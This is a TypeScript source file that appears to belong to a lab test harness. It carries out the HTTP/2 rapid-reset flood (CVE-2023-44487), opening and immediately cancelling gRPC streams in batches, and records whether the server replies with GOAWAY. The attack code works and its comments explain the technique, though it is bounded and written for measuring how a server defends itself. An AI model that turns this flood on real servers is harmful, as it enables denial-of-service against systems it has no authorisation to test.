/**
 * A rapid-reset flood (CVE-2023-44487) from a raw HTTP/2 client (node:http2, no gRPC library):
 * on one connection it opens gRPC streams (request HEADERS, no message) in batches and resets
 * each batch at once (RST_STREAM CANCEL, no END_STREAM), over and over, until the server answers with GOAWAY,
 * closes the connection, or `maxStreams` is reached. The scenario `rapid-reset` runs it
 * against the lab's server; it reports what the server did.
 */
import http2 from 'node:http2';
import { once } from 'node:events';
import { setImmediate as nextTurn } from 'node:timers/promises';
import { nowMs } from '../core/clock.ts';
import { http2ErrorName } from '../core/http2-errors.ts';
import type { Http2ErrorName } from '../core/http2-errors.ts';

/** What to flood; every field but `target` and `path` has a default. */
export interface RapidResetOptions {
  /** `host:port` of the server. */
  target: string;
  /** `/package.Service/Method` of the streams. */
  path: string;
  /** Streams opened, then reset, per turn of the event loop. Default 64. */
  batch?: number;
  /** Stop after this many streams. Default 5,000. */
  maxStreams?: number;
  /** Give up after this many ms. Default 10,000. */
  boundMs?: number;
  /** A W3C `baggage` header for every stream (the scenario label). Default none. */
  baggage?: string;
  /** Streams opened first and held open, never reset: the GOAWAY ends them. Default 0. */
  hold?: number;
}

/** The GOAWAY the flood received. */
export interface ReceivedGoaway {
  errorCode: number;
  errorName: Http2ErrorName;
  lastStreamId: number;
  /** When it arrived, epoch ms. */
  atMs: number;
}

/** What the flood did and what the server answered. */
export interface RapidResetResult {
  /** When the first stream was opened, epoch ms. */
  startedAtMs: number;
  /** Streams opened (HEADERS sent). */
  opened: number;
  /** Streams reset (RST_STREAM CANCEL sent). */
  reset: number;
  /** Streams held open (opened first, never reset). */
  held: number;
  /** The server's GOAWAY, if one came. */
  goaway?: ReceivedGoaway;
  /** The server's SETTINGS_MAX_CONCURRENT_STREAMS. */
  maxConcurrentStreams?: number;
}

/**
 * Floods `options.target`.
 * @throws Error when the connection cannot be made (ECONNREFUSED …)
 */
export async function rapidReset(options: RapidResetOptions): Promise<RapidResetResult> {
  const session = http2.connect(`http://${options.target}`);
  const failed = once(session, 'error').then(([error]) => Promise.reject(error as Error));
  failed.catch(() => {});
  await Promise.race([once(session, 'remoteSettings'), failed]);
  const result: RapidResetResult = { startedAtMs: nowMs(), opened: 0, reset: 0, held: 0 };
  const limit = session.remoteSettings.maxConcurrentStreams;
  if (limit !== undefined) result.maxConcurrentStreams = limit;
  session.on('error', () => {}); // a GOAWAY with an error code destroys the session with ERR_HTTP2_SESSION_ERROR
  session.once('goaway', (errorCode: number, lastStreamId: number) => {
    result.goaway = { errorCode, errorName: http2ErrorName(errorCode), lastStreamId, atMs: nowMs() };
  });
  const batch = Math.min(options.batch ?? 64, limit ?? Infinity);
  const maxStreams = options.maxStreams ?? 5_000;
  const until = Date.now() + (options.boundMs ?? 10_000);
  const headers = {
    ':method': 'POST', ':path': options.path, 'content-type': 'application/grpc', te: 'trailers',
    ...(options.baggage ? { baggage: options.baggage } : {}),
  };
  try {
    for (let i = 0; i < (options.hold ?? 0); i++) {
      session.request(headers).on('error', () => {});
      result.opened += 1;
      result.held += 1;
    }
    while (!result.goaway && !session.closed && !session.destroyed && result.opened < maxStreams && Date.now() < until) {
      // Aborting the request's signal sends RST_STREAM CANCEL alone; close() would send
      // END_STREAM first and the RST_STREAM in a later write, and the server could answer the
      // half-close in between.
      const abort = new AbortController();
      let opened = 0;
      for (; opened < batch && result.opened < maxStreams; opened++) {
        session.request(headers, { signal: abort.signal }).on('error', () => {});
        result.opened += 1;
      }
      abort.abort();
      result.reset += opened;
      await nextTurn();
    }
  } catch {
    // request() throws once the session is going away: the flood is over
  } finally {
    session.destroy();
  }
  return result;
}
